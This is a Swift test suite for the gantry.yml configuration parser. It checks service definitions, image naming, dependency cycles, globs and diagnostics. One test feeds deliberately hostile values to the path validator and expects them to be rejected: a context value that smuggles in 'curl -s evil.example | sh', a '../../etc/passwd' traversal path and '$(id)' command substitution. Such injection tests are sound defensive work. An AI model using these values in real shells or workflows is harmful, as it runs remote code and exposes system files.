import Basics
import Config
import TestSupport
import Testing

/// Parses `text` and returns its diagnostics as `line:col: message` strings; empty when valid.
func problems(_ text: String) -> [String] {
    do {
        _ = try Configuration(parsing: text, file: "gantry.yml")
        return []
    } catch .invalidConfiguration(let diagnostics) {
        #expect(diagnostics.allSatisfy { $0.location.file == "gantry.yml" })
        return diagnostics.map { "\($0.location.line):\($0.location.column): \($0.message)" }
    } catch {
        Issue.record("unexpected error \(error)")
        return []
    }
}

@Suite("Reading gantry.yml")
struct ConfigurationTests {
    @Test("reads services, groups and global files, with defaults derived from the paths and the registry")
    func validConfiguration() throws {
        let configuration = try Configuration(
            parsing: """
                version: 1
                registry: ghcr.io/acme
                global: [".github/workflows/**", "gantry.yml"]
                groups:
                  common: ["libs/common/**"]
                services:
                  api:
                    paths: ["services/api/**"]
                    ignore: ["**/*.md"]
                    depends_on: [common]
                  web:
                    paths: services/web/**
                    depends_on: [api]
                    image: registry.example.com:5000/team/web-ui
                    context: frontend
                    dockerfile: frontend/Dockerfile.prod
                  worker:
                    context: jobs/worker
                """, file: "gantry.yml")
        #expect(configuration.services.map(\.name) == ["api", "web", "worker"])
        #expect(configuration.groups.map(\.name) == ["common"])
        let api = try #require(configuration.service(named: "api"))
        #expect(api.image == "ghcr.io/acme/api")
        #expect(api.context == "services/api")
        #expect(api.dockerfile == "services/api/Dockerfile")
        #expect(api.owns("services/api/main.py"))
        #expect(!api.owns("services/api/README.md"))
        #expect(api.dependencies.map(\.name) == ["common"])
        #expect(api.location.line == 7)
        let web = try #require(configuration.service(named: "web"))
        #expect(web.image == "registry.example.com:5000/team/web-ui")
        #expect(web.dockerfile == "frontend/Dockerfile.prod")
        let worker = try #require(configuration.service(named: "worker"))
        #expect(worker.owns("jobs/worker/main.go"))
        #expect(worker.dockerfile == "jobs/worker/Dockerfile")
        #expect(configuration.global.matches(".github/workflows/ci.yml"))
    }

    @Test("names the image after the service when there is no registry")
    func imageWithoutRegistry() throws {
        let configuration = try Configuration(parsing: "version: 1\nservices:\n  api:\n    paths: [api/**]\n", file: "gantry.yml")
        #expect(configuration.services[0].image == "api")
        #expect(configuration.services[0].context == "api")
    }

    @Test("reports an unknown key with the closest known one")
    func unknownKeys() {
        #expect(
            problems("version: 1\nservics:\n  api: {paths: [a]}\n") == [
                "1:1: missing `services:` at the top level; define at least one service with its `paths`",
                "2:1: unknown key `servics` in the top level; did you mean `services`? (expected one of: version, registry, global, groups, services, tags, flavor, labels, gates, environment, findings)",
            ])
        #expect(
            problems("version: 1\nservices:\n  api:\n    paths: [a]\n    dependson: [b]\n") == [
                "5:5: unknown key `dependson` in `services.api`; did you mean `depends_on`? (expected one of: paths, ignore, depends_on, image, context, dockerfile, tags, health, smoke, latency, run, port, env, working_directory, scheme, base_path, tls, inputs, build_args, target)"
            ])
    }

    @Test("reports wrong types with what was expected and what was found")
    func wrongTypes() {
        #expect(
            problems("version: one\nservices: []\n") == [
                "1:10: `version` must be a whole number, got the string \"one\"",
                "2:11: `services` must be a mapping of service names to their settings, got a list",
            ])
        #expect(
            problems("version: 1\nservices:\n  api:\n    paths: {a: b}\n") == [
                "4:12: `services.api.paths` must be a list of strings, got a mapping"
            ])
        #expect(
            problems("version: 1\nservices:\n  api:\n    paths: [a, [b]]\n") == [
                "4:16: `services.api.paths[1]` must be a string, got a list"
            ])
        #expect(
            problems("version: 2\nservices:\n  api: {paths: [a]}\n") == [
                "1:10: `version` must be 1, the only version there is; got 2"
            ])
        #expect(
            problems("- a\n- b\n") == [
                "1:1: `the top level` must be a mapping with `version` and `services`, got a list"
            ])
    }

    @Test("reports a dependency on something that does not exist")
    func unknownDependency() {
        #expect(
            problems("version: 1\ngroups:\n  common: [libs/**]\nservices:\n  api:\n    paths: [a/**]\n    depends_on: [comon]\n") == [
                "7:18: `api` depends on `comon`, which is neither a group nor a service; did you mean `common`?"
            ])
    }

    @Test("prints a dependency cycle in full")
    func cycles() {
        let text = """
            version: 1
            services:
              api:
                paths: [api/**]
                depends_on: [worker]
              worker:
                paths: [worker/**]
                depends_on: [web]
              web:
                paths: [web/**]
                depends_on: [api]
              solo:
                paths: [solo/**]
                depends_on: [solo]
            """
        #expect(
            problems(text) == [
                "11:18: dependency cycle: api → worker → web → api; depends_on must not lead back to a service",
                "14:18: dependency cycle: solo → solo; depends_on must not lead back to a service",
            ])
    }

    @Test("rejects invalid globs at their own position")
    func invalidGlobs() {
        let found = problems("version: 1\nservices:\n  api:\n    paths: [\"services/[api/**\", \"/abs/**\"]\n")
        #expect(found.count == 2)
        #expect(found[0].hasPrefix("4:13: invalid glob \"services/[api/**\" in `services.api.paths`"))
        #expect(found[1].hasPrefix("4:33: invalid glob \"/abs/**\" in `services.api.paths`"))
    }

    @Test("rejects duplicate, invalid and reserved names")
    func names() {
        #expect(
            problems("version: 1\nservices:\n  api: {paths: [a]}\n  api: {paths: [b]}\n") == [
                "3:3: duplicate key `api`: each key may appear once in a mapping (first defined here)"
            ])
        #expect(
            problems("version: 1\ngroups:\n  api: [x]\nservices:\n  api: {paths: [a]}\n") == [
                "5:3: `api` is defined twice (also at line 3); group and service names share one namespace"
            ])
        let invalid = problems(
            "version: 1\nservices:\n  User_API: {paths: [a]}\n  9lives: {paths: [b]}\n  a--b: {paths: [c]}\n  ok-: {paths: [d]}\n  \"we b\": {paths: [e]}\n"
        )
        #expect(invalid.count == 5)
        #expect(invalid.allSatisfy { $0.contains("invalid service name") })
        #expect(
            problems("version: 1\nservices:\n  changed: {paths: [a]}\n") == [
                "3:3: service name `changed` is reserved: gantry writes an output of that name; rename the service"
            ])
        #expect(
            problems("version: 1\nservices:\n  user-api: {paths: [a]}\n  user_api: {paths: [b]}\n") == [
                "4:3: services `user-api` and `user_api` both become USER_API_URL in the environment; rename one"
            ])
    }

    @Test("image and registry names with capitals are lowercased, as the README and metadata-action do")
    func imageNamesLowercased() throws {
        let configuration = try Configuration(
            parsing: "version: 1\nregistry: GHCR.io/Acme\nservices:\n  api: {paths: [a], image: ghcr.io/Acme/API}\n  web: {paths: [b]}\n",
            file: "gantry.yml")
        #expect(configuration.registry == "ghcr.io/acme")
        #expect(configuration.service(named: "api")?.image == "ghcr.io/acme/api")
        #expect(configuration.service(named: "web")?.image == "ghcr.io/acme/web")
    }

    @Test("an unquoted number or boolean in a list of globs is an error, not a directory named 5 or true")
    func globsThatYAMLTypes() {
        #expect(
            problems("version: 1\nservices:\n  api:\n    paths: 5\n") == [
                "4:12: `services.api.paths` must be globs such as \"services/api/**\", got the number 5; quote it (\"5\") for a path named so"
            ])
        #expect(
            problems("version: 1\nglobal: [true]\nservices:\n  api:\n    paths: [\"5\"]\n    ignore: [docs/**, false]\n") == [
                "2:10: `global` must be globs such as \"services/api/**\", got the boolean true; quote it (\"true\") for a path named so",
                "6:23: `services.api.ignore` must be globs such as \"services/api/**\", got the boolean false; quote it (\"false\") for a path named so",
            ])
    }

    @Test("rejects image names registries would refuse")
    func imageNames() {
        #expect(problems("version: 1\nservices:\n  api: {paths: [a], image: ghcr.io/acme/a%pi}\n").count == 1)
        #expect(
            problems("version: 1\nservices:\n  api: {paths: [a], image: \"ghcr.io/acme/api:latest\"}\n") == [
                "3:28: `services.api.image` must not carry a tag or digest: gantry computes the tags, like ghcr.io/acme/api; got \"ghcr.io/acme/api:latest\""
            ])
        #expect(problems("version: 1\nregistry: ghcr.io/ac%me\nservices:\n  api: {paths: [a]}\n").count == 1)
    }

    @Test("requires paths or a context to derive them from")
    func missingPaths() {
        #expect(
            problems("version: 1\nservices:\n  api:\n    image: x\n") == [
                "3:3: service `api` needs `paths` (or a `context` to take them from), such as paths: [\"services/api/**\"]"
            ])
    }

    @Test("explains invalid YAML, an empty file and a missing file without crashing")
    func unreadableFiles() throws {
        #expect(problems("version: 1\nservices:\n  api: [a\n").count == 1)
        #expect(problems("version: 1\nservices:\n  api: [a\n")[0].hasPrefix("4:1: invalid YAML"))
        #expect(problems("") == ["1:1: the file is empty; expected a mapping with `version: 1` and `services:`"])
        #expect(problems("# only a comment\n") == ["1:1: the file is empty; expected a mapping with `version: 1` and `services:`"])
        let directory = try TemporaryDirectory()
        #expect(
            throws: GantryError.invalidConfiguration([
                Diagnostic(
                    "no configuration file here; create gantry.yml at the repository root (see the README's Configuration section) or name one with --config PATH",
                    at: SourceLocation(file: "gantry.yml", line: 1, column: 1), kind: .missingFile)
            ])
        ) {
            try Configuration.load(from: directory.url("gantry.yml"), as: "gantry.yml")
        }
        #expect(throws: GantryError.self) { try Configuration.load(from: directory.path) }
    }

    @Test("reports every problem of a file in one run, in file order")
    func allProblemsAtOnce() {
        let found = problems("version: 1\nservices:\n  Bad: {paths: [a]}\n  api:\n    paths: [\"[\"]\n    imag: x\n")
        #expect(found.map { $0.split(separator: ":").prefix(2).joined(separator: ":") } == ["3:3", "5:13", "6:5"])
    }
}

@Suite("Values that reach workflows")
struct WorkflowValueTests {
    @Test("contexts and Dockerfiles are plain repository paths: nothing a shell would interpret")
    func shellSafePaths() {
        let found = problems(
            """
            version: 1
            services:
              api:
                paths: [a/**]
                context: "services/api; curl -s evil.example | sh #"
                dockerfile: ../../etc/passwd
              web:
                paths: [b/**]
                context: /abs
                dockerfile: "docker/$(id).Dockerfile"
              ok:
                paths: [c/**]
                context: .
                dockerfile: docker/ok@v1+x.Dockerfile
            """)
        #expect(found.count == 4)
        #expect(found[0].hasPrefix("5:14: `services.api.context` must use only letters, digits and . _ - / @ +"))
        #expect(found[1].hasPrefix("6:17: `services.api.dockerfile` must be a plain path inside the repository"))
        #expect(found[2].hasPrefix("9:14: `services.web.context` must be relative to the repository root"))
        #expect(found[3].hasPrefix("10:17: `services.web.dockerfile` must use only"))
    }

    @Test("an unknown variable in a service's env value is an error at its line and column, before validate passes")
    func unknownVariableInEnv() {
        let text = """
            version: 1
            services:
              api:
                paths: [api/**]
                run: "serve"
                env: {HOME_DIR: "${env.HOME}", SELF: "${url}/x", BAD: "at ${nope}", TYPO: '${ur}'}

            """
        #expect(
            problems(text) == [
                "6:63: `services.api.env.BAD`: unknown variable ${nope} (expected ${url}, ${port} or ${env.NAME})",
                "6:80: `services.api.env.TYPO`: unknown variable ${ur}; did you mean ${url}? (expected ${url}, ${port} or ${env.NAME})",
            ])
    }

    @Test("a service's scheme is http or https and its base path a URL path, else an error at its line and column")
    func schemeAndBasePath() {
        let text = """
            version: 1
            services:
              api: {paths: [api/**], run: serve, scheme: ftp, base_path: "app?x=1"}
              web: {paths: [web/**], scheme: https}

            """
        #expect(
            problems(text) == [
                "3:46: `services.api.scheme` must be http or https; got \"ftp\"",
                "3:62: `services.api.base_path` must be a URL path starting with /, such as /api, without spaces, ? or #; got \"app?x=1\"",
                "4:26: `services.web.scheme` applies to the `run` command; add `run:` or remove it",
            ])
    }

    @Test("a first path that names a file gives its directory as the build context")
    func contextFromFilePath() throws {
        let configuration = try Configuration(
            parsing:
                "version: 1\nservices:\n  api: {paths: [\"services/api/a.py\", \"services/api/lib/**\"]}\n  web: {paths: [services/web]}\n",
            file: "gantry.yml")
        #expect(configuration.services[0].context == "services/api")
        #expect(configuration.services[0].dockerfile == "services/api/Dockerfile")
        #expect(configuration.services[1].context == "services/web")
    }
}
